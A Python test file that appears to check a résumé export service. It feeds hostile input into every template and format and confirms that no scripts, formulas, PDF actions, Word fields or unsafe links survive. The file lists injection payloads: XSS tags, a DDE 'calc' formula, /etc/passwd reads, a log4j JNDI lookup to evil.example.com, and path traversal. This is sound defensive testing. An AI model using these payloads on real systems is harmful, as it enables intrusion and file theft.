"""Whatever a résumé says, an exported file does nothing but show it."""

from __future__ import annotations

import zipfile
from io import BytesIO

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from api.rendering import Format, Letter, Options, UnknownTemplateError, render, templates
from api.rendering.readback import read_back
from e2e.attacks.inert import active_parts

NAMES = [template.name for template in templates()]
HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "![x](https://tracker.example.com/p.png)",
    '=HYPERLINK("https://evil.example.com","x")',
    "=cmd|'/C calc'!A0",
    '#import "@preview/cetz:0.3.0"',
    '#read("/etc/passwd") #image("/etc/passwd")',
    "/JavaScript (app.alert(1)) /OpenAction",
    "{ INCLUDETEXT C:\\\\secrets.txt } DDEAUTO",
    "${jndi:ldap://evil.example.com/a} {{7*7}} %s %n",
)


def hostile_resume():
    text = " ".join(HOSTILE)
    links = (
        "javascript:alert(1)",
        "data:text/html,<script>1</script>",
        "\\\\evil\\share",
        "ftp://x.y",
    )
    return {
        "basics": {
            "name": HOSTILE[0],
            "label": text,
            "summary": "\n".join(HOSTILE),
            "url": links[0],
        },
        "work": [
            {"position": text, "name": text, "url": link, "highlights": list(HOSTILE)}
            for link in links
        ],
        "skills": [{"name": text, "keywords": list(HOSTILE)}],
        "references": [{"name": HOSTILE[1], "reference": text}],
    }


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("kind", list(Format))
def test_a_file_holds_nothing_that_acts_and_no_link(name, kind):
    data = render(hostile_resume(), format=kind, template=name).data

    assert active_parts(data, kind) == []


def test_the_search_for_active_content_would_find_it_in_a_pdf():
    planted = b"1 0 obj <</OpenAction <</S /JavaScript /JS (app.alert(1))>> >>"
    linked = b"2 0 obj <</S /URI /URI (https://tracker.example.com/p.png)>>"

    assert active_parts(planted, "pdf") == ["/JavaScript", "/JS", "/OpenAction", "JavaScript"]
    assert active_parts(linked, "pdf") == ["link: https://tracker.example.com/p.png"]
    assert active_parts(linked, "pdf", ["https://tracker.example.com/p.png"]) == []


def test_the_search_for_active_content_would_find_it_in_a_docx():
    written = BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        archive.writestr("word/document.xml", "<w:p><w:instrText>INCLUDETEXT</w:instrText></w:p>")
        archive.writestr("word/vbaProject.bin", "x")
        archive.writestr("word/_rels/x", '<R Target="file:///etc/passwd" TargetMode="External"/>')

    assert active_parts(written.getvalue(), "docx") == [
        "instrText",
        "word/vbaProject.bin",
        "link: file:///etc/passwd",
    ]


def test_the_search_for_active_content_would_find_it_in_text_and_json():
    assert active_parts(b"=cmd|'/C calc'!A0\n- a bullet\n+44 20 7946", "text") == [
        "formula: =cmd|'/C calc'!A0"
    ]
    assert active_parts(b'{"url": "javascript:alert(1)", "x": "<b>"}', "json") == [
        "a tag",
        "link: javascript:alert(1)",
    ]


@pytest.mark.parametrize("kind", list(Format))
def test_hostile_text_is_shown_as_text_and_unsafe_links_are_dropped(kind):
    rendered = render(hostile_resume(), format=kind)

    text = " ".join(read_back(rendered.data, kind).split())

    assert "=cmd|'/C calc'!A0" in text
    assert '#import "@preview/cetz:0.3.0"' in text
    assert "javascript:" not in text
    assert [warning.code for warning in rendered.warnings] == ["link_removed"] * 5


def test_invisible_and_direction_characters_reach_no_format():
    sections = {"basics": {"name": "A\u202eB\u200bC", "summary": "x\x00y\u2066z\U000e0041"}}

    for kind in Format:
        text = read_back(render(sections, format=kind).data, kind)

        assert "ABC" in text
        assert "xyz" in text


@pytest.mark.parametrize("kind", list(Format))
def test_a_letter_is_cleaned_and_shown_as_text(kind):
    letter = Letter(("\x00\u202e#import <script>", " "), subject="a\nb", head=("", "\u200bc"))

    rendered = render({}, format=kind, options=Options(letter=letter))

    assert letter == Letter(("#import <script>",), "a b", ("c",))
    assert "#import <script>" in read_back(rendered.data, kind)


def test_an_unknown_template_or_format_is_refused():
    with pytest.raises(UnknownTemplateError, match=r"there are classic"):
        render({}, format="pdf", template="../../etc/passwd")
    with pytest.raises(ValueError, match="html"):
        render({}, format="html")


VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=30),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(
            st.sampled_from(["name", "url", "position", "startDate", "x"]), inner, max_size=3
        )
    ),
    max_leaves=8,
)
KEYS = ["basics", "work", "education", "skills", "languages", "projects", "references", "x", "meta"]
LENIENT = settings(
    deadline=None, database=None, suppress_health_check=list(HealthCheck), max_examples=60
)


@LENIENT
@given(st.dictionaries(st.sampled_from(KEYS), VALUES, max_size=4))
@pytest.mark.parametrize("kind", [Format.DOCX, Format.TEXT, Format.JSON])
def test_any_json_is_written_and_written_alike(kind, sections):
    first = render(sections, format=kind)

    assert render(sections, format=kind) == first
    read_back(first.data, kind)


@settings(LENIENT, max_examples=40)
@given(st.dictionaries(st.sampled_from(KEYS), VALUES, max_size=4))
def test_any_json_is_set_as_pdf(sections):
    first = render(sections, format="pdf", template="compact")

    assert render(sections, format="pdf", template="compact") == first
    assert first.data.startswith(b"%PDF-")
